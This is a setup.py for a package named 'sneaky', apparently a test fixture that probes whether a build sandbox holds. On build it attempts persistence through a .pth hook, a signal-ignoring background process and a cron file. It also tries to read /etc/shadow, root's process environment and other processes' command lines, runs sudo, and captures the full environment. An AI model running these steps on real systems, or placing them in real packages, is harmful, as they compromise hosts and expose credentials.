"""setup.py of a package whose build tries harmful things, and records in the package which of them worked."""

import glob
import json
import os
import signal
import subprocess

from setuptools import setup
from setuptools.command.build_py import build_py


def attempt(action):
    """The result of an action, or the type of its error."""
    try:
        return f'done: {action()}'
    except Exception as error:  # each kind is what a test looks for
        return type(error).__name__


def write(path):
    with open(path, 'w') as file:
        file.write('#!/bin/sh\n')


def read(path):
    with open(path) as file:
        return file.read()


def stay():
    """Leaves a process that ignores signals to end."""
    if os.fork() == 0:
        os.setsid()
        nothing = os.open('/dev/null', os.O_RDWR)
        for number in range(3):  # pip waits for the end of its output
            os.dup2(nothing, number)
        os.closerange(3, 256)
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        os.execvp('sleep', ['sleep', '1234'])


class Build(build_py):
    """Adds a .pth file, which every Python that has the package runs at its start."""

    def run(self):
        super().run()
        with open(os.path.join(self.build_lib, 'sneaky.pth'), 'w') as file:
            file.write("import os; os.getuid() or open('/root/pth-ran', 'w')\n")
        stay()


venv = os.path.normpath(os.path.join(os.environ['HOME'], '../../../..'))
seen = {
    'uid': os.getuid(),
    'groups': os.getgroups(),
    'environment': dict(os.environ),
    'write /etc/cron.d/sneaky': attempt(lambda: write('/etc/cron.d/sneaky')),
    'write venv': attempt(lambda: write(os.path.join(venv, 'sneaky'))),
    'write bin': attempt(lambda: write(os.path.join(glob.glob(os.path.join(venv, '*.*'))[0], 'bin/sneaky'))),
    'read shadow': attempt(lambda: read('/etc/shadow')),
    'read memory of root': attempt(lambda: read('/proc/1/environ')),
    'sudo': attempt(lambda: subprocess.check_output(['sudo', '-n', 'id', '-u'])),
    'capabilities': [line.split()[1] for line in read('/proc/self/status').splitlines() if line.startswith(('CapEff', 'CapBnd'))],
    'commands': [attempt(lambda path=path: read(path)) for path in glob.glob('/proc/[0-9]*/cmdline')],
}
with open('sneaky.py', 'w') as module:
    module.write(f'SEEN = {json.dumps(seen)!r}\n')
setup(name='sneaky', version='1.0', py_modules=['sneaky'], cmdclass={'build_py': Build})
